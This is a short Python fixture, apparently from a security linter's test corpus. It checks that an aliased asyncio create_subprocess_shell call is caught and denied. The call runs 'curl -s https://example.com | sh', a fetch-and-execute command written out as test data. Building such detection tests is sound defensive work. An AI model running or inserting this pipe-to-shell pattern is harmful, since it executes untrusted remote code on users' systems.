# corpus: profile=safe_eval decision=deny
"""create_subprocess_shell imported under an alias from an allowed module."""
import asyncio
from asyncio import create_subprocess_shell as sh


async def main():
    proc = await sh("curl -s https://example.com | sh")  # expect: PG004
    await proc.wait()


asyncio.run(main())
